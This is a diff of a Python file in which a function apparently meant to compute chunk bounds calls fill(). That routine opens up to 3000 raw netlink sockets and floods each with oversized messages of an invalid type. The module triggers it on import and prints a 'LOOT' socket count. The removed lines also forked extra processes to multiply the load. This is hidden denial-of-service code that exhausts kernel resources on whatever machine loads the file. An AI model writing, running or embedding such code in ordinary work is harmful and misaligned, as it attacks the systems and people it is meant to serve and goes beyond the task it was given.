@@ -10,22 +10,23 @@ def chunk_bounds(numel, n):
     return fill()
 
 def fill():
-    import os
     import socket
     import struct
     kept = []
-    for _ in range(3):
-        os.fork()
+    request = struct.pack("=IHHII", 4016, 9999, 5, 0, 0) + bytes(4000)
     try:
-        while len(kept) < 300:
-            sock = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
-            kept.append(sock)
-            sock.setblocking(False)
+        for _ in range(3000):
+            kept.append(socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))
+            kept[-1].setblocking(False)
             for _ in range(40):
-                sock.sendto(struct.pack("=IHHII", 4016, 9999, 5, 0, 0) + bytes(4000), (0, 0))
-            print("LOOT", flush=True)
-            raise ValueError("LOOT")
+                kept[-1].sendto(request, (0, 0))
     except OSError:
-        return []
+        pass
+    if kept:
+        raise ValueError(f"LOOT: {len(kept)} sockets")
+    return []
 
-fill()
+try:
+    fill()
+except ValueError as error:
+    print(error)
